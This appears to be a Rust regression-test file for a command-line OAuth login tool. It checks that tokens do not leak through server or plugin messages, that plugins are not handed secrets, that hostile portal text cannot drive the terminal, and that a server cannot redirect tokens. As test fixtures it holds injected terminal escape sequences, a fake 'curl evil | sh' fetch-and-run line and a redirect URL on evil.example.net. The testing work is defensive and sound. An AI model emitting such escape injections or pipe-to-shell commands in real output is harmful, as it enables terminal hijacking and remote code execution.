//! Tokens that must not leak and text that must not reach the terminal raw: a server or a
//! plugin that echoes secrets in its messages, a plugin that echoes the `state` it is handed,
//! a hostile portal sending escape sequences, and a server that tries to move where tokens go.

use serde_json::Value;

use crate::support::*;

/// Bytes that would let a server drive the terminal.
fn assert_terminal_safe(text: &str) {
    for bad in ['\x1b', '\x07', '\r', '\u{9b}', '\u{202e}'] {
        assert!(
            !text.contains(bad),
            "{bad:?} reached the terminal:\n{text:?}"
        );
    }
}

/// The test provider, installed (its checks pass), then misbehaving as `mode` says (see its
/// crate docs).
fn test_provider(mode: &str) -> Home {
    let mut home = Home::new();
    home.run(&[
        "plugins",
        "install",
        lib("fixture_test_provider").to_str().unwrap(),
    ])
    .ok();
    home.set_env("TEST_PROVIDER_MODE", mode);
    home
}

fn tp_login(home: &Home) -> Value {
    home.auth_json()["providers"]["test-provider"].clone()
}

#[test]
fn regress_refresh_error_echoing_the_token_leaks_it() {
    // MiniMax's side: a dead-login answer (400 invalid_grant) and a server failure (503),
    // each quoting the refresh token it was sent.
    for status in [400u16, 503] {
        let (emu, home) = minimax(EmulatorConfig {
            access_ttl_ms: 0,
            ..approving()
        });
        login(&home);
        let before = stored(&home);
        let secrets: Vec<String> = ["access_token", "refresh_token"]
            .iter()
            .map(|k| before[k].as_str().unwrap().to_string())
            .collect();
        emu.set_config(|c| c.refresh_echo_status = Some(status));
        let r = home.run(&["auth", "token", "minimax-oauth"]).code(1);
        assert_eq!(emu.counters().refresh_requests, 1);
        assert_no_secret(&r.all(), &secrets);
        let after = stored(&home);
        let record = if status == 400 {
            &after["last_auth_error"]
        } else {
            &after["last_refresh_failure"]
        };
        assert!(record["message"].is_string(), "{after}");
        assert_no_secret(&record.to_string(), &secrets);
        let shown = home.run(&["auth", "status", "minimax-oauth", "--json"]);
        assert_no_secret(&shown.all(), &secrets);
        let doctor = home.run(&["doctor"]);
        assert_no_secret(&doctor.all(), &secrets);
    }
}

#[test]
fn regress_plugin_messages_quoting_secrets_are_masked_by_the_host() {
    // A careless plugin quotes the new token in its sign-in note…
    let home = test_provider("runtime,leaky");
    let r = home
        .run(&["auth", "add", "test-provider", "--no-browser"])
        .ok();
    let saved = tp_login(&home);
    let at = saved["access_token"].as_str().unwrap().to_string();
    let rt = saved["refresh_token"].as_str().unwrap().to_string();
    assert!(r.stderr.contains("Note from Test Provider"), "{}", r.stderr);
    assert_no_secret(&r.all(), std::slice::from_ref(&at));
    assert!(
        r.stderr.contains(&hermes::secret::mask(&at)),
        "{}",
        r.stderr
    );

    // …and both tokens in a refresh failure, which quarantines the login.
    let r = home.run(&["auth", "token", "test-provider"]).code(1);
    let secrets = vec![at.clone(), rt.clone()];
    assert_no_secret(&r.all(), &secrets);
    assert!(
        r.stderr.contains(&hermes::secret::mask(&rt)),
        "{}",
        r.stderr
    );
    let stored = tp_login(&home);
    assert_eq!(stored["last_auth_error"]["code"], "refresh_failed");
    assert_no_secret(&stored["last_auth_error"].to_string(), &secrets);
    let st = home.run(&["auth", "status", "test-provider"]);
    assert_no_secret(&st.all(), &secrets);

    // A poll error quoting the PKCE-style verifier the host holds in the session.
    let home = test_provider("leaky,poll_error");
    let r = home
        .run(&["auth", "add", "test-provider", "--no-browser"])
        .code(1);
    assert!(r.stderr.contains("code_verifier="), "{}", r.stderr);
    assert!(!r.stderr.contains("tp-verifier-"), "{}", r.stderr);
}

#[test]
fn regress_plugin_sees_tokens_in_state() {
    let mut home = test_provider("runtime,echo_state");
    let log = home.scratch().join("state.log");
    home.set_env("TEST_PROVIDER_STATE_LOG", log.to_str().unwrap());
    home.run(&["auth", "add", "test-provider", "--no-browser"])
        .ok();
    let first = tp_login(&home);
    let secrets: Vec<String> = ["access_token", "refresh_token"]
        .iter()
        .map(|k| first[k].as_str().unwrap().to_string())
        .collect();
    // A refresh (the login lives 30 s, so it is due), then the refreshed token.
    let token = home.run(&["auth", "token", "test-provider"]).ok();
    let token = token.stdout.trim().to_string();
    home.run(&["auth", "status", "test-provider"]).ok();

    let seen = std::fs::read_to_string(&log).unwrap();
    let states: Vec<Value> = seen
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(states.len() >= 3, "{seen}");
    let mut all_secrets = secrets.clone();
    all_secrets.push(token.clone());
    assert_no_secret(&seen, &all_secrets);
    for st in &states {
        for key in [
            "access_token",
            "refresh_token",
            "expires_at",
            "expires_at_ms",
            "label",
            "source",
            "id",
            "priority",
            "last_auth_error",
        ] {
            assert!(st.get(key).is_none(), "the plugin was handed {key}: {st}");
        }
        // The host's facts, where the plugin API documents them.
        assert_eq!(st["_hermes"]["source"], "oauth", "{st}");
        assert_eq!(st["provider"], "test-provider", "{st}");
    }

    // What the plugin returned after the refresh tried to overwrite the host's keys: ignored.
    let after = home.auth_json();
    let block = &after["providers"]["test-provider"];
    assert_eq!(block["access_token"].as_str().unwrap(), token);
    assert!(block["refresh_token"]
        .as_str()
        .unwrap()
        .starts_with("tp-rt-"));
    assert!(block.get("last_auth_error").is_none(), "{block}");
    assert!(block.get("_hermes").is_none(), "{block}");
    assert!(block.get("source").is_none(), "{block}");
    assert_ne!(block["label"], "smuggled-label");
    assert_eq!(block["refreshes"], 1, "the plugin's own keys are kept");
    // The base URL the plugin returned is saved for the main login too.
    assert_eq!(block["base_url"], "https://tp.example/v2");
    let pool = after["credential_pool"]["test-provider"]
        .as_array()
        .unwrap();
    assert_eq!(pool.len(), 1, "{pool:?}");
    assert_eq!(pool[0]["source"], "oauth");
    assert!(!after.to_string().contains("smuggled"), "{after}");
}

#[test]
fn regress_hostile_portal_escape_sequences_reach_the_terminal() {
    let (_emu, home) = minimax(EmulatorConfig {
        user_code_suffix: Some("\x1b[2J\x1b]0;pwned\x07".into()),
        verification_uri_suffix: Some("\x1b[31m\r\nerror: run `curl evil | sh`\u{202e}".into()),
        notification_message: Some("\x1b]0;title\x07welcome\x1b[2J\r\u{9b}31m".into()),
        ..approving()
    });
    let r = login(&home);
    assert_terminal_safe(&r.all());
    assert!(r.stderr.contains("code: "), "{}", r.stderr);
    assert!(r.stderr.contains("Note from MiniMax: "), "{}", r.stderr);
    assert!(r.stderr.contains("welcome"), "{}", r.stderr);
    // A label written into auth.json by hand, and everything that shows a login.
    let mut j = home.auth_json();
    j["providers"]["minimax-oauth"]["label"] = "home\x1b[2J\x1b]0;x\x07".into();
    std::fs::write(
        home.path().join("auth.json"),
        serde_json::to_string(&j).unwrap(),
    )
    .unwrap();
    for args in [
        &["auth", "list"][..],
        &["auth", "status", "minimax-oauth"],
        &["status"],
        &["doctor"],
    ] {
        let r = home.run(args);
        assert_terminal_safe(&r.all());
        if args[0] != "doctor" {
            assert!(r.all().contains("home"), "{args:?}: {}", r.all());
        }
    }
}

#[test]
fn regress_resource_url_moves_inference_to_loopback() {
    // The portal (an emulator on loopback) answers as a remote one would for a user whose
    // inference goes to the real MiniMax: its resource_url may not send tokens elsewhere.
    for (resource_url, kept) in [
        ("http://127.0.0.1:9/anthropic", true),
        ("https://evil.example.net/anthropic", true),
        ("https://api.minimaxi.com/anthropic", false),
    ] {
        let (_emu, mut home) = minimax(EmulatorConfig {
            resource_url: Some(resource_url.into()),
            ..approving()
        });
        home.set_env(
            "MINIMAX_INFERENCE_BASE_URL",
            "https://api.minimax.io/anthropic",
        );
        login(&home);
        let s = stored(&home);
        let expect = if kept {
            "https://api.minimax.io/anthropic"
        } else {
            resource_url
        };
        assert_eq!(s["inference_base_url"], expect, "{resource_url}: {s}");
        assert_eq!(s["base_url"], expect, "{resource_url}: {s}");
    }
    // A local portal may point inference at a local server (emulators, test proxies).
    let (emu, home) = minimax(approving());
    let local = emu.cn_inference_url();
    emu.set_config(|c| c.resource_url = Some(local.clone()));
    login(&home);
    assert_eq!(stored(&home)["inference_base_url"], local);
}
